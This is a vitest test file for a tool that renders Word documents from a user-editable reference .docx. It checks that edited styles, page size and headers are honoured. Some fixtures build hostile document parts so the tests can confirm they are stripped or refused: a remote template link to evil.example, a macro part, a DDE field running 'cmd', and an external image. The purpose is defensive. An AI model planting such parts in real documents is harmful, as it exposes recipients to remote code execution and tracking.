import { beforeAll, expect, test } from "vitest";
import { packPart } from "../../../../src/opc/pack-part.ts";
import { readPackage } from "../../../../src/opc/read-package.ts";
import { writePackage } from "../../../../src/opc/write-package.ts";
import { renderReference } from "../../../../src/render/word/render-reference.ts";
import { renderWord } from "../../../../src/render/word/render-word.ts";
import { createShell, readShell } from "../../../../src/render/word/shell/read-shell.ts";
import { aWordPaper } from "../../../fixtures/a-word-paper.ts";
import { partText } from "../../../fixtures/word-parts.ts";
import { aLook } from "../../../fixtures/a-look.ts";

let reference: Uint8Array;
beforeAll(async () => {
  reference = await renderReference(aLook);
});

/** The reference document with some parts changed, as somebody may send it. */
function edited(changes: Readonly<Record<string, (xml: string) => string>>): Uint8Array {
  const parts = new Map(
    [...readPackage(reference)].map(([name, bytes]) => [name, Buffer.from(bytes).toString("latin1")]),
  );
  for (const [name, change] of Object.entries(changes))
    parts.set(
      name,
      Buffer.from(change(Buffer.from(parts.get(name) ?? "", "latin1").toString("utf8"))).toString("latin1"),
    );
  return writePackage([...parts].map(([name, content]) => packPart(name, Buffer.from(content, "latin1"))));
}

test("the reference document gives the same paper as the default look", async () => {
  const paper = aWordPaper("# 題\n\n本文\n\n| a |\n|---|\n| b |");
  const parts = ["word/document.xml", "word/styles.xml", "word/header1.xml", "word/footer1.xml", "word/settings.xml"];
  const [ours, theirs] = [
    renderWord(paper, await createShell(aLook)),
    renderWord(paper, readShell(reference, aLook.words)),
  ];
  for (const name of parts) expect(partText(theirs, name)).toBe(partText(ours, name));
});

test("styles, page set-up and header edited in Word are used", () => {
  const changed = edited({
    "word/styles.xml": (xml) => xml.replaceAll('"Heading1"', '"1"').replace("DEE6EF", "FFCC00"),
    "word/document.xml": (xml) => xml.replace(/w:pgSz w:w="11906" w:h="16838"/, 'w:pgSz w:w="16838" w:h="23811"'),
    "word/header1.xml": (xml) =>
      xml.replace(
        '<w:t xml:space="preserve">{{header}}</w:t>',
        "<w:t>部外秘 {{hea</w:t></w:r><w:r><w:t>der}} 御中</w:t>",
      ),
  });
  const paper = renderWord(aWordPaper("# 題\n\n| a |\n|---|\n| b |"), readShell(changed, aLook.words));
  expect(partText(paper, "word/document.xml")).toContain('<w:pStyle w:val="1"/>');
  expect(partText(paper, "word/document.xml")).toContain('w:fill="FFCC00"');
  expect(partText(paper, "word/document.xml")).toContain('<w:tblW w:w="14570"');
  expect(partText(paper, "word/header1.xml")).toContain("部外秘 令和８年度研究事業");
});

test("what could act or reach outside stays behind", () => {
  const hostile = edited({
    "word/settings.xml": (xml) =>
      xml.replace(
        "<w:zoom",
        '<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/><w:zoom',
      ),
    "word/_rels/settings.xml.rels": () =>
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>',
    "word/vbaProject.bin": () => "macro",
  });
  const paper = renderWord(aWordPaper("文"), readShell(hostile, aLook.words));
  expect([...readPackage(paper).keys()].filter((name) => /vba|settings.xml.rels/.test(name))).toEqual([]);
  expect(partText(paper, "word/settings.xml")).not.toContain("attachedTemplate");
});

test.each([
  [
    "a field that starts programs",
    {
      "word/header1.xml": (xml: string) =>
        xml.replace(
          "</w:p>",
          '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        ),
    },
  ],
  [
    "a picture from elsewhere",
    {
      "word/_rels/header1.xml.rels": () =>
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://x/image" Target="http://evil.example/a.png" TargetMode="External"/></Relationships>',
    },
  ],
  ["no page set-up", { "word/document.xml": (xml: string) => xml.replace(/<w:pgSz[^>]*>/, "") }],
  ["list styles without lists", { "word/styles.xml": (xml: string) => xml.replace(/<w:numPr>.*?<\/w:numPr>/g, "") }],
])("%s is refused with a reason", (_, changes) => {
  expect(() => readShell(edited(changes), aLook.words)).toThrow("reference document");
});

test("something else than a Word file is refused", () => {
  expect(() => readShell(Buffer.from("hello"), aLook.words)).toThrow("damaged");
  expect(() => readShell(writePackage([packPart("a.xml", "<a/>")]), aLook.words)).toThrow("no Word file");
});
